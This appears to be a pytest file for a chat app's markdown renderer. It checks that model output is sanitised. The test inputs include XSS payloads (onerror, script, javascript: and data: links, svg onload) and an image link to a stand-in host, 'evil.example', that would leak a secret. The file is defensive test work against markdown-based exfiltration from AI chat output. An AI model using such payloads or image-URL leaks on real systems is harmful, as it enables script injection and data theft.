"""Model output renders as sanitised HTML: hostile markup is inert, code is highlighted with a copy button."""

from __future__ import annotations

import pytest

from chat.render import render_markdown


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        '<a href="javascript:alert(1)">x</a>',
        "<svg onload=alert(1)>",
        "<iframe src=https://evil.example></iframe>",
    ],
)
def test_it_escapes_raw_html(text):
    html = render_markdown(text)
    assert "<script" not in html and "<img" not in html and "<iframe" not in html and "<svg" not in html
    assert "&lt;" in html


def test_it_drops_javascript_links():
    html = render_markdown("[click](javascript:alert(1)) and [data](data:text/html;base64,PHNjcmlwdD4=)")
    assert "javascript:" not in html.split("[click]")[0]
    assert 'href="javascript' not in html and 'href="data' not in html


def test_it_makes_no_request_for_foreign_images():
    html = render_markdown("![x](https://evil.example/?q=secret)")
    assert "evil.example" not in html
    assert "<img" not in html
    assert "[image: x]" in html


def test_it_keeps_data_url_images():
    html = render_markdown("![dot](data:image/png;base64,iVBORw0KGgo=)")
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">' in html


def test_it_marks_links_noopener_nofollow():
    html = render_markdown("[site](https://example.com/a)")
    assert 'href="https://example.com/a"' in html
    assert 'rel="noopener nofollow noreferrer"' in html


def test_it_refuses_relative_links():
    assert "href" not in render_markdown("[admin](/admin/logout/)")


def test_it_highlights_code_with_a_copy_button():
    html = render_markdown("```python\nprint('hi')\n```")
    assert '<button class="copy" type="button" data-copy' in html
    assert '<span class="hl-nb">print</span>' in html
    assert 'data-lang="python"' in html


def test_it_escapes_html_inside_code():
    html = render_markdown("```html\n<script>alert(1)</script>\n```")
    assert "<script>" not in html
    assert "&lt;" in html


def test_it_renders_tables_and_emphasis():
    html = render_markdown("**bold** ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<strong>bold</strong>" in html and "<s>gone</s>" in html and "<td>1</td>" in html
